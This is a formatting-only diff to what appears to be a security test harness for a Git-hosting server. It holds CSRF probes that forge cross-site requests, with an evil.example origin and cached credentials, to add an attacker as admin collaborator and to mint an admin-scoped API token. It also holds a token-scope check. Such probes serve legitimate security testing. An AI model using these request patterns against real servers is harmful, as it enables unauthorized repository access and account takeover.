@@ -56,12 +56,19 @@ const csrfCollaborator: Attack = {
       // What a page on evil.example makes the victim's browser send, Basic credentials cached.
       const answer = await request(`${ctx.target.base()}/${victim.name}/${repo.name}/settings/collaborators`, {
         method: 'POST',
-        headers: { ...basic(victim.name, victim.password), origin: EVIL_ORIGIN, 'sec-fetch-site': 'cross-site', 'content-type': 'application/x-www-form-urlencoded' },
+        headers: {
+          ...basic(victim.name, victim.password),
+          origin: EVIL_ORIGIN,
+          'sec-fetch-site': 'cross-site',
+          'content-type': 'application/x-www-form-urlencoded',
+        },
         body: `user=${attacker.name}&permission=admin`,
         timeoutMs: limits.remainingMs(),
         signal: limits.signal,
       });
-      const permission = await ctx.api.send('GET', `/api/v1/repos/${victim.name}/${repo.name}/collaborators/${attacker.name}/permission`, { headers: bearer(victim.token) });
+      const permission = await ctx.api.send('GET', `/api/v1/repos/${victim.name}/${repo.name}/collaborators/${attacker.name}/permission`, {
+        headers: bearer(victim.token),
+      });
       const granted = permission.status === 200 ? json<{ permission: string }>(permission).permission : `HTTP ${permission.status}`;
       return `form POST ${answer.status}; attacker's permission now: ${granted}`;
     };
@@ -76,7 +83,12 @@ const csrfToken: Attack = {
     return async (limits) => {
       const answer = await request(`${ctx.target.base()}/api/v1/users/${victim.name}/tokens`, {
         method: 'POST',
-        headers: { ...basic(victim.name, victim.password), origin: EVIL_ORIGIN, 'sec-fetch-site': 'cross-site', 'content-type': 'text/plain' },
+        headers: {
+          ...basic(victim.name, victim.password),
+          origin: EVIL_ORIGIN,
+          'sec-fetch-site': 'cross-site',
+          'content-type': 'text/plain',
+        },
         body: JSON.stringify({ name: ctx.unique('csrf'), scopes: ['write:admin', 'write:repository'] }),
         timeoutMs: limits.remainingMs(),
         signal: limits.signal,
@@ -104,7 +116,11 @@ const tokenScopes: Attack = {
         }).then((answer) => `${answer.status}${answer.status === 303 ? ' (created)' : ''}`, describeError);
       const repo = await post('/new', `owner=${victim.name}&name=${ctx.unique('byscope')}&visibility=public`);
       const org = await post('/organizations/new', `name=${ctx.unique('scopeorg')}`);
-      const dashboard = await request(`${ctx.target.base()}/`, { headers: bearer(token), timeoutMs: limits.remainingMs(), signal: limits.signal });
+      const dashboard = await request(`${ctx.target.base()}/`, {
+        headers: bearer(token),
+        timeoutMs: limits.remainingMs(),
+        signal: limits.signal,
+      });
       const lists = dashboard.body.toString('utf8').includes(secret.name);
       return `read:user token: POST /new ${repo}; /organizations/new ${org}; dashboard lists private repo: ${lists ? 'yes' : 'no'}`;
     };
